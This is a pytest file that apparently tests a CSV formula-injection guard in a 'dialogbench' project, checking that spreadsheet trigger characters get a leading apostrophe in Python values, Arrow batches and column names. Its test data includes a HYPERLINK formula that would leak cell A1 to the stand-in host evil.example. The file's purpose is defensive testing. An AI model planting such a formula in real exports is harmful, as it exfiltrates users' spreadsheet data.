"""A CSV cell a spreadsheet would run as a formula (``=HYPERLINK(…)`` from a model's answer) gets a leading
apostrophe (dialogbench/text/csvsafe.py, the OWASP rule): each trigger character, in Python values and in Arrow batches
(text, large text, dictionary-encoded text, column names), and nothing else changed."""

from __future__ import annotations

import io

import pyarrow as pa
import pyarrow.csv as pacsv
import pytest

from dialogbench.text.csvsafe import TRIGGERS, guard, guard_batch, guard_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'


@pytest.mark.parametrize("first", TRIGGERS)
def test_each_trigger_gets_an_apostrophe(first):
    assert guard(f"{first}1+1") == f"'{first}1+1"
    assert guard_cell(f"{first}x") == f"'{first}x"


def test_everything_else_is_left_as_it_is():
    for text in ("", "ok", "a=b", " =1", "'=1", "1-2", "x@y", "\n=1", "日本=", "\\x1b=1"):
        assert guard(text) is text
    for value in (None, -5, -1.5, True):
        assert guard_cell(value) is value


def test_a_batch_has_its_text_cells_and_column_names_guarded_and_the_rest_kept():
    batch = pa.record_batch({
        "answer": pa.array([HYPERLINK, "fine", None, "-5", "\t=1", "@SUM(A1)", "a=b"]),
        "=PIVOTED": pa.array([-1, 2, 3, 4, 5, 6, 7], pa.int64()),
        "large": pa.array(["+cmd", "x", "y", "z", "-", "@", "="], pa.large_string()),
        "dict": pa.array(["=a", "b", "=a", None, "c", "d", "e"]).dictionary_encode(),
        "score": pa.array([-0.5, 1.0, None, 2.0, 3.0, 4.0, 5.0]),
    })
    guarded = guard_batch(batch)
    assert guarded.schema.names == ["answer", "'=PIVOTED", "large", "dict", "score"]
    assert guarded.column("answer").to_pylist() == [f"'{HYPERLINK}", "fine", None, "'-5", "'\t=1", "'@SUM(A1)", "a=b"]
    assert guarded.column("'=PIVOTED").to_pylist() == [-1, 2, 3, 4, 5, 6, 7]
    assert guarded.column("large").to_pylist() == ["'+cmd", "x", "y", "z", "'-", "'@", "'="]
    assert guarded.column("dict").to_pylist() == ["'=a", "b", "'=a", None, "c", "d", "e"]
    assert guarded.column("score").to_pylist() == [-0.5, 1.0, None, 2.0, 3.0, 4.0, 5.0]
    out = io.BytesIO()
    with pacsv.CSVWriter(out, guarded.schema) as writer:
        writer.write_batch(guarded)
    lines = out.getvalue().decode().splitlines()
    assert lines[1].startswith('"\'=HYPERLINK(') and ",-1," in lines[1]  # no cell of the file starts a formula
